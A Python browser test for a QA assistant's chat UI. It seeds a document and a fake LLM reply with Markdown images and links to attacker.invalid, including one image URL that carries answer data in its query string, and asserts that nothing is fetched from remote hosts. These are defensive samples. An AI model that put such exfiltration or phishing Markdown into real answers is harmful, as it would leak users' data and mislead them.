"""No remote content in answers, in a real Chromium (issue 17, finding 2).

A document whose sentence carries `![x](http://attacker.invalid/x.png)` and
`[click](http://attacker.invalid)` is quoted, and an LLM (tests/fake_llm.py) answers with such
Markdown too; every request the page makes is recorded: none leaves 127.0.0.1, and the only
links in the chat are the product's own [n] citation links.
"""

from __future__ import annotations

import socket
from urllib.parse import urlparse

import pytest

from cqvet_qa.assistant import Assistant
from cqvet_qa.settings import LLMSettings, Settings
from fake_llm import fake_llm, sse
from test_ui_browser import ARGS, BOT, CHROMIUM, ask

from playwright.sync_api import sync_playwright  # noqa: E402  (test_ui_browser skips without Chromium)

pytestmark = pytest.mark.timeout(180)

DOCUMENT = (
    "1 办学条件\n"
    "2024年，全市职业学校办学条件总体达标率为88.5%，详见![x](http://attacker.invalid/x.png)"
    "和[click](http://attacker.invalid)以及 https://attacker.invalid/plain 。\n"
)
LLM_REPLY = "达标率为88.5% [1] ![leak](http://attacker.invalid/leak.png?q=88.5) [more](http://attacker.invalid/phish)"
RATE = "2024年办学条件总体达标率是多少？"


@pytest.fixture(scope="module")
def served(assistant, tmp_path_factory):
    from cqvet_qa.ui.server import start

    root = tmp_path_factory.mktemp("remote")
    (root / "corpus").mkdir()
    (root / "corpus" / "conditions.txt").write_text(DOCUMENT, encoding="utf-8")
    with pytest.MonkeyPatch.context() as env, fake_llm() as llm:
        env.setenv("NO_PROXY", "127.0.0.1,localhost")
        settings = Settings(corpus=root / "corpus", index=root / "index", llm=LLMSettings(llm.base_url, timeout=5))
        hostile = Assistant.load(settings=settings, embedder=assistant.embedder)
        with socket.socket() as s:
            s.bind(("127.0.0.1", 0))
            port = s.getsockname()[1]
        demo, url = start(hostile, port=port, feedback_path=root / "feedback.jsonl", warm_up=False)
        try:
            yield url, llm
        finally:
            demo.close()


def test_quoted_documents_and_llm_output_load_nothing_remote(served):
    url, llm = served
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
        try:
            page = browser.new_context().new_page()
            requests: list[str] = []
            page.on("request", lambda request: requests.append(request.url))
            page.goto(url)
            page.wait_for_selector("#cq-question textarea", timeout=30_000)

            llm.reply = ("sse", sse(LLM_REPLY))
            shown = ask(page, RATE)  # the LLM's answer, its Markdown made words
            assert "88.5%" in shown and "leak" in shown and "attacker" not in shown
            llm.reply = ("sse", sse("42"))
            ask(page, RATE)  # unsupported: the extractive answer, quoting the document, replaces it
            page.wait_for_function(
                "sel => [...document.querySelectorAll(sel)].at(-1).innerText.includes('x.png')", arg=BOT, timeout=30_000
            )
            shown = page.locator(BOT).last.inner_text()
            assert "![x](http://attacker.invalid/x.png)" in shown and "[click](http://attacker.invalid)" in shown
            page.wait_for_timeout(1500)  # time for any image or prefetch to be requested

            chat = page.locator("#cq-chat")
            assert chat.locator("img[src*='attacker'], [src*='attacker']").count() == 0
            hrefs = chat.locator(".message-content a").evaluate_all("links => links.map(a => a.getAttribute('href'))")
            assert hrefs and all(h.startswith("#cq-ev-") for h in hrefs), hrefs
            assert "attacker.invalid" in page.locator("#cq-evidence").inner_text()  # quoted, as text
            remote = [r for r in requests if urlparse(r).scheme in ("http", "https", "ws", "wss") and urlparse(r).hostname != "127.0.0.1"]
            assert remote == [], remote
        finally:
            browser.close()
